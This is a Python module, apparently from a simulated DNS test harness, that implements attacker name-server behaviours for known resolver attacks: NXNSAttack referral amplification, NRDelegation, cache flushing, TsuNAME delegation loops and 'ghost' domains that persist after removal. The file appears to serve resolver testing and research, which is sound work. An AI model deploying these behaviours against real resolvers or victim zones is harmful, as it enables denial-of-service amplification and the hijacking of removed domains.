# SPDX-License-Identifier: GPL-3.0-or-later
"""Attackers that delegate: to many names, to nothing, in circles, and that will not let go."""
import dns.flags
import dns.rdatatype

import world
import zones
from world import ATTACKER, DEAD, SECOND, TLD, VICTIM, Honest


def referral(question, cut, targets, ttl=zones.TTL, glue=()):
    """A reply that hands the name on to the servers of these names."""
    reply = zones.make_reply(question.message, 0)
    reply.authority.append(zones.rrset(cut, "NS", *targets, ttl=ttl))
    reply.additional.extend(glue)
    return reply


def label_before(question, origin):
    """The label of the name that stands before the zone: "q1" in a.b.q1.nxns.com."""
    depth = len(zones.name(origin)) + 1
    return question.name.labels[-depth].decode() if len(question.name) >= depth else None


class Nxns(Honest):
    """NXNSAttack: a delegation to many servers whose names the victim's zone must be asked for, each in vain."""

    def prepare(self, width):
        self.width = width
        self.attacker("nxns.com.")

    def reply(self, question):
        label = label_before(question, "nxns.com.") if question.address == ATTACKER else None
        if label is None:
            return super().reply(question)
        return referral(question, f"{label}.nxns.com.", [f"{label}x{n}.victim.com." for n in range(self.width)])


class NrDelegation(Honest):
    """NRDelegation: a delegation to many server names, each of which is itself delegated to a server that refuses."""

    def prepare(self, width):
        self.width = width
        self.attacker("nrd.com.")
        self.attacker("refusing.com.")
        self.seen = []

    def reply(self, question):
        if question.address == SECOND:
            message = zones.make_reply(question.message, 0)
            message.set_rcode(5)
            return message
        if question.address != ATTACKER:
            return super().reply(question)
        label = label_before(question, "nrd.com.") if question.name.is_subdomain(zones.name("nrd.com.")) else None
        if label is not None:
            return referral(question, f"{label}.nrd.com.", [f"ns.{label}x{n}.refusing.com." for n in range(self.width)])
        label = label_before(question, "refusing.com.")
        if label is not None:
            return referral(question, f"{label}.refusing.com.", [f"ns.{label}.refusing.com."],
                            glue=[zones.rrset(f"ns.{label}.refusing.com.", "A", SECOND)])
        return super().reply(question)


class CacheFlush(Honest):
    """Each question brings as many records as fit into a message: server names or an alias chain that nobody will ask for."""

    def prepare(self, width):
        self.width, self.made = width, {}
        self.attacker("flush.com.")

    def reply(self, question):
        label = label_before(question, "flush.com.") if question.address == ATTACKER else None
        if label is None:
            return super().reply(question)
        key = question.type, question.message.edns >= 0
        if key not in self.made:
            self.made[key] = self.template(question)
        head, tail = question.wire[:2] + self.made[key][2:12], self.made[key][12 + len(self.template_name):]
        return head + question.asked.to_wire() + tail.replace(b"q0000", label.encode())

    def template(self, question):
        """The wire form for q0000.flush.com; all other names differ in this label alone."""
        name = zones.name("q0000.flush.com.")
        self.template_name = name.to_wire()
        reply = zones.make_reply(question.message)
        reply.question = [zones.dns.rrset.RRset(name, zones.IN, question.type)]
        reply.answer.append(zones.rrset(name, "TXT", '"%s"' % ("x" * 200)) if question.type == 16 else zones.rrset(name, "A", "6.6.6.6"))
        reply.authority.append(zones.rrset("flush.com.", "NS", *[f"{'x' * 14}q0000n{n}.q0000.flush.com." for n in range(self.width)]))
        return reply.to_wire()


class TsuName(Honest):
    """TsuNAME: two zones whose only server stands in the other one. Only their parent has anything to say."""

    def prepare(self):
        self.com.add(zones.rrset("cyclea.com.", "NS", "ns.cycleb.com."), zones.rrset("cycleb.com.", "NS", "ns.cyclea.com."))


class Ghost(Honest):
    """A domain that its parent takes back, while its old servers keep saying that they have it, with new TTLs each time."""

    def prepare(self, ttl):
        self.ttl = ttl
        self.zones.setdefault(ATTACKER, [])
        self.com.delegate("ghost.com.", ATTACKER, ttl=ttl)
        self.com.sets[zones.name("com.")][dns.rdatatype.SOA] = zones.rrset("com.", "SOA", f"ns.com. h.com. 1 7200 3600 1209600 {ttl}",
                                                                         ttl=ttl)

    def set(self, taken_back):
        self.com.remove("ghost.com.")

    def reply(self, question):
        if question.address not in (ATTACKER, SECOND):
            return super().reply(question)
        ns, glue = zones.rrset("ghost.com.", "NS", "ns.ghost.com."), zones.rrset("ns.ghost.com.", "A", ATTACKER)
        label = label_before(question, "ghost.com.")
        if label is not None and label.startswith("p") and question.address == ATTACKER:
            # phoenix: each of these names is a delegation of its own, with a long TTL
            return referral(question, f"{label}.ghost.com.", [f"ns.{label}.ghost.com."],
                            glue=[zones.rrset(f"ns.{label}.ghost.com.", "A", SECOND)])
        reply = zones.make_reply(question.message)
        if question.type == dns.rdatatype.NS and label is None:
            reply.answer.append(ns)
        elif question.type == dns.rdatatype.A:
            reply.answer.append(zones.rrset(question.name, "A", world.EVIL_A if label != "ns" else ATTACKER, ttl=self.ttl))
            reply.authority.append(ns if question.address == ATTACKER else zones.rrset(f"{label}.ghost.com.", "NS", f"ns.{label}.ghost.com."))
        if question.address == ATTACKER:
            reply.additional.append(glue)
        return reply


ALL = [Nxns, NrDelegation, CacheFlush, TsuName, Ghost]
__all__ = ["ALL", "DEAD", "SECOND", "TLD", "VICTIM", *[c.__name__ for c in ALL]]
